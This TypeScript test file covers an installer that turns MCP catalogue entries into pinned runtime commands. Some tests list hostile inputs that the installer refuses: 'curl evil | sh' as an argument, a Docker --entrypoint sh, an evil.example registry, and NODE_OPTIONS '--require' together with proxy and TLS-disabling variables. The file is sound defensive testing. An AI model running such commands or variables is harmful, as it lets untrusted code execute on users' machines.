import assert from 'node:assert/strict'
import test from 'node:test'
import type { CatalogueEntry, EntryArgument, EntryPackage, EntryRemote } from '../../src/domain/catalogue/entry.ts'
import { fillOption, installOptions, suggestServerName } from '../../src/domain/catalogue/install.ts'
import type { InstallValues } from '../../src/domain/catalogue/slots.ts'

const entry = (packages: readonly EntryPackage[], remotes: readonly EntryRemote[] = []): CatalogueEntry => ({
  name: 'io.github.owner/files-mcp',
  description: 'Files',
  version: '1.0.0',
  packages,
  remotes
})
const npm = (members: Partial<EntryPackage> = {}): EntryPackage => ({
  registryType: 'npm',
  identifier: '@owner/files',
  version: '1.2.3',
  transport: 'stdio',
  ...members
})
const fill = (item: EntryPackage, values: InstallValues = {}) =>
  fillOption(installOptions(entry([item]))[0]!, 'Files', values)
const argsOf = (packageArguments: readonly EntryArgument[], values: InstallValues = {}) => {
  const { members, missing, problems } = fill(npm({ packageArguments }), values)
  assert.ok(members.transport === 'stdio')
  assert.deepEqual(members.args.slice(0, 2), ['-y', '@owner/files@1.2.3'])
  return { args: members.args.slice(2), missing, problems }
}
const problemOf = (item: EntryPackage) => installOptions(entry([item]))[0]!.problem

test('each kind of package becomes the command of its runtime, with the version pinned', () => {
  const commandOf = (item: EntryPackage) => {
    const { members } = fill(item)
    assert.ok(members.transport === 'stdio')
    return [members.command, ...members.args].join(' ')
  }
  assert.equal(commandOf(npm()), 'npx -y @owner/files@1.2.3')
  assert.equal(commandOf(npm({ runtimeHint: 'bunx' })), 'bunx @owner/files@1.2.3')
  assert.equal(commandOf(npm({ registryType: 'pypi', identifier: 'files' })), 'uvx files==1.2.3')
  assert.equal(commandOf(npm({ registryType: 'nuget', identifier: 'Files' })), 'dnx Files@1.2.3 --yes --')
  const image = npm({ registryType: 'oci', identifier: 'ghcr.io/owner/files' })
  assert.equal(commandOf(image), 'docker run -i --rm ghcr.io/owner/files:1.2.3')
  const tagged = { ...image, identifier: 'ghcr.io/owner/files:9', runtimeHint: 'podman' }
  assert.equal(commandOf(tagged), 'podman run -i --rm ghcr.io/owner/files:9')
})

test('arguments that the runtime gets anyway are not repeated', () => {
  const runtimeArguments: EntryArgument[] = [
    { type: 'positional', value: '-y' },
    { type: 'positional', value: '--quiet' },
    { type: 'positional', value: '@owner/files@1.2.3' }
  ]
  const { members } = fill(npm({ runtimeHint: 'npx', runtimeArguments }))
  assert.ok(members.transport === 'stdio')
  assert.deepEqual(members.args, ['-y', '--quiet', '@owner/files@1.2.3'])
})

test('the value of a named argument stays with its name, even if it is also an argument of the runtime', () => {
  const runtimeArguments: EntryArgument[] = [
    { type: 'named', name: '--name', value: 'run' },
    { type: 'named', name: '--rm' },
    { type: 'named', name: '-v', value: '/data:/data' }
  ]
  const { members } = fill(npm({ registryType: 'oci', identifier: 'files', runtimeArguments }))
  assert.ok(members.transport === 'stdio')
  assert.deepEqual(members.args.slice(3), ['--name', 'run', '-v', '/data:/data', 'files:1.2.3'])
})

test('positional arguments are their values, in order, and optional ones without a value are left out', () => {
  const given: EntryArgument[] = [
    { type: 'positional', value: 'serve' },
    { type: 'positional', valueHint: 'folder', isRequired: true },
    { type: 'positional', valueHint: 'mode', default: 'fast' },
    { type: 'positional', valueHint: 'extra' }
  ]
  assert.deepEqual(argsOf(given), { args: ['serve', 'fast'], missing: ['FOLDER'], problems: [] })
  assert.deepEqual(argsOf(given, { FOLDER: '/srv', MODE: 'slow', EXTRA: 'x y' }).args, ['serve', '/srv', 'slow', 'x y'])
})

test('named arguments are a name and a value, and those without a value are flags', () => {
  const given: EntryArgument[] = [
    { type: 'named', name: '--api-key', isRequired: true, isSecret: true, format: 'string' },
    { type: 'named', name: '--port', default: '80', format: 'number' },
    { type: 'named', name: '--verbose' },
    { type: 'named', name: '--stdio', isRequired: true }
  ]
  assert.deepEqual(argsOf(given, { API_KEY: 'k' }).args, ['--api-key', 'k', '--port', '80', '--stdio'])
  const chosen = argsOf(given, { API_KEY: 'k', PORT: '81', VERBOSE: 'true' })
  assert.deepEqual(chosen.args, ['--api-key', 'k', '--port', '81', '--verbose', '--stdio'])
  assert.deepEqual(argsOf(given, { API_KEY: 'k', VERBOSE: 'false' }).args, [
    '--api-key',
    'k',
    '--port',
    '80',
    '--stdio'
  ])
})

test('repeated arguments appear once for each value, and templates take their values together', () => {
  const given: EntryArgument[] = [
    { type: 'named', name: '--dir', isRepeated: true, valueHint: 'dir' },
    {
      type: 'named',
      name: '--mount',
      isRepeated: true,
      value: 'src={source},dst={target},mode={other}',
      variables: { source: { isRequired: true }, target: { default: '/mnt' } }
    }
  ]
  const { args } = argsOf(given, { DIR: ['a', 'b'], SOURCE: ['/1', '/2'], TARGET: ['/x', '/y'] })
  const mounts = ['--mount', 'src=/1,dst=/x,mode={other}', '--mount', 'src=/2,dst=/y,mode={other}']
  assert.deepEqual(args, ['--dir', 'a', '--dir', 'b', ...mounts])
  assert.deepEqual(argsOf(given).missing, ['SOURCE'])
  assert.deepEqual(argsOf([{ type: 'positional', valueHint: 'one' }], { ONE: ['a', 'b'] }).problems, [
    '"ONE" takes one value only'
  ])
})

test('a value with braces of another variable is not expanded again', () => {
  const variables = { a: { isRequired: true }, b: { default: 'B' } }
  const given: EntryArgument[] = [{ type: 'positional', value: '{a}-{b}', variables }]
  assert.deepEqual(argsOf(given, { A: '{b}' }).args, ['{b}-B'])
})

test('environment variables are set if they have a value, and a container gets only their names as arguments', () => {
  const environmentVariables = [
    { name: 'TOKEN', isRequired: true, isSecret: true },
    { name: 'LEVEL', default: 'info', choices: ['info', 'debug'] },
    { name: 'OTHER' }
  ]
  const { members, missing } = fill(npm({ environmentVariables }))
  assert.ok(members.transport === 'stdio')
  assert.deepEqual([members.env, missing], [{ LEVEL: 'info' }, ['TOKEN']])
  const image = npm({ registryType: 'oci', identifier: 'owner/files', environmentVariables })
  const { members: contained } = fill(image, { TOKEN: 's3cret' })
  assert.ok(contained.transport === 'stdio')
  assert.deepEqual(contained.args, ['run', '-i', '--rm', '-e', 'TOKEN', '-e', 'LEVEL', 'owner/files:1.2.3'])
  assert.deepEqual(contained.env, { TOKEN: 's3cret', LEVEL: 'info' })
})

test('values are checked against choices and formats, and the messages do not contain them', () => {
  const given: EntryArgument[] = [
    { type: 'named', name: '--level', choices: ['info', 'debug'] },
    { type: 'named', name: '--port', format: 'number' },
    { type: 'named', name: '--on', format: 'boolean' }
  ]
  const { problems } = argsOf(given, { LEVEL: 'SENT', PORT: 'SENT', ON: 'SENT', NONE: 'SENT' })
  assert.deepEqual(problems, [
    '"LEVEL" must be one of info, debug',
    '"PORT" must be a number',
    '"ON" must be true or false',
    'there is no input "NONE"'
  ])
})

test('inputs of the same name stay apart', () => {
  const given: EntryArgument[] = [
    { type: 'positional', valueHint: 'path', isRequired: true },
    { type: 'positional', valueHint: 'path', isRequired: true }
  ]
  assert.deepEqual(argsOf(given, { PATH: '/a', PATH_2: '/b' }).args, ['/a', '/b'])
})

test('a package that would make the runtime do something else is refused', () => {
  for (const identifier of ['--registry=x', '../x', '/etc/x', 'a b', 'https://x/y.tgz', 'git+ssh://x', 'a;b', '@x']) {
    assert.match(problemOf(npm({ identifier })) ?? '', /name or version/, identifier)
  }
  for (const version of ['latest; x', '^1.2.3', '>=1', '-1', '1 2', 'npm:other@1'])
    assert.match(problemOf(npm({ version })) ?? '', /name or version/, version)
  assert.match(problemOf(npm({ registryBaseUrl: 'https://evil.example' })) ?? '', /registry of its own/)
  assert.match(problemOf(npm({ registryType: 'mcpb' })) ?? '', /not supported/)
  assert.match(problemOf(npm({ registryType: 'constructor' })) ?? '', /not supported/)
  assert.match(problemOf(npm({ transport: 'sse' })) ?? '', /instead of using stdio/)
  const runtimeArguments: EntryArgument[] = [{ type: 'positional', value: '-c' }]
  assert.match(problemOf(npm({ runtimeHint: 'sh', runtimeArguments })) ?? '', /runtime "sh"/)
})

test('a publisher cannot give a runtime an argument with which another package or program would run', () => {
  const oci = (runtimeArguments: EntryArgument[]) => npm({ registryType: 'oci', identifier: 'files', runtimeArguments })
  const refused: [EntryPackage, string][] = [
    [npm({ runtimeArguments: [{ type: 'positional', value: 'evil-package' }] }), 'a package before the named one'],
    [npm({ runtimeArguments: [{ type: 'positional', valueHint: 'package' }] }), 'a word that somebody gives'],
    [npm({ runtimeArguments: [{ type: 'named', name: '--call', value: 'curl evil | sh' }] }), 'a command'],
    [npm({ runtimeArguments: [{ type: 'named', name: '--call=curl evil | sh' }] }), 'a command in one word'],
    [npm({ runtimeArguments: [{ type: 'named', name: '-p', value: 'evil' }] }), 'another package'],
    [
      npm({
        registryType: 'pypi',
        identifier: 'files',
        runtimeArguments: [{ type: 'named', name: '--from', value: 'evil' }]
      }),
      '--from'
    ],
    [
      npm({
        registryType: 'pypi',
        identifier: 'files',
        runtimeArguments: [{ type: 'named', name: '--with', value: 'evil' }]
      }),
      '--with'
    ],
    [oci([{ type: 'positional', value: 'evil/image' }]), 'an image before the named one'],
    [oci([{ type: 'named', name: '--entrypoint', value: 'sh' }]), 'another program'],
    [oci([{ type: 'named', name: '-v' }]), 'an option that takes the image as its value'],
    [oci([{ type: 'named', name: '--rm', value: 'evil/image' }]), 'a flag with an image behind it']
  ]
  for (const [item, what] of refused) assert.match(problemOf(item) ?? '', /something else could run/, what)
})

test('a publisher cannot set variables that load other code, while a person can', () => {
  const withVariable = (members: object) => npm({ environmentVariables: [{ name: 'NODE_OPTIONS', ...members }] })
  assert.match(problemOf(withVariable({ value: '--require=/tmp/x' })) ?? '', /NODE_OPTIONS/)
  assert.match(problemOf(withVariable({ default: '--require=/tmp/x' })) ?? '', /NODE_OPTIONS/)
  for (const name of ['HTTPS_PROXY', 'all_proxy', 'NODE_TLS_REJECT_UNAUTHORIZED', 'SSL_CERT_FILE', 'CONTAINER_HOST'])
    assert.match(problemOf(npm({ environmentVariables: [{ name, value: '0' }] })) ?? '', new RegExp(name))
  assert.equal(problemOf(npm({ environmentVariables: [{ name: 'HTTPS_PROXY' }] })), undefined)
  assert.equal(problemOf(withVariable({})), undefined)
  assert.match(problemOf(npm({ environmentVariables: [{ name: 'A=B' }] })) ?? '', /without a valid name/)
})

test('remote servers come first, and their addresses and headers take values', () => {
  const remotes: EntryRemote[] = [
    { type: 'sse', url: 'https://old.example/sse' },
    {
      type: 'streamable-http',
      url: 'https://{tenant}.example/mcp?key={key}',
      variables: { tenant: { isRequired: true }, key: { isSecret: true, isRequired: true } },
      headers: [
        { name: 'Authorization', value: 'Bearer {token}', variables: { token: { isSecret: true, isRequired: true } } },
        { name: 'X-Trace' }
      ]
    }
  ]
  const options = installOptions(entry([npm(), npm()], remotes))
  assert.deepEqual(
    options.map(({ id }) => id),
    ['remote', 'remote-2', 'npm', 'npm-2']
  )
  const { members } = fillOption(options[0]!, 'Files', { TENANT: 'acme', KEY: 'a&b', TOKEN: 't' })
  assert.deepEqual(members, {
    transport: 'streamable_http',
    description: 'Files',
    url: 'https://acme.example/mcp?key=a%26b',
    headers: { Authorization: 'Bearer t' }
  })
  assert.deepEqual(fillOption(options[0]!, '', {}).missing, ['TENANT', 'KEY', 'TOKEN'])
  assert.equal(options[1]!.target, 'https://old.example/sse')
})

test('server names are derived from the telling part of an entry name', () => {
  const names = {
    'io.github.owner/server-filesystem': 'filesystem',
    'com.example/mcp': 'example',
    'io.github.owner/Figma-Context-MCP': 'Figma-Context',
    'io.github.owner/my.files': 'my-files'
  }
  for (const [name, expected] of Object.entries(names)) assert.equal(suggestServerName(name), expected)
})
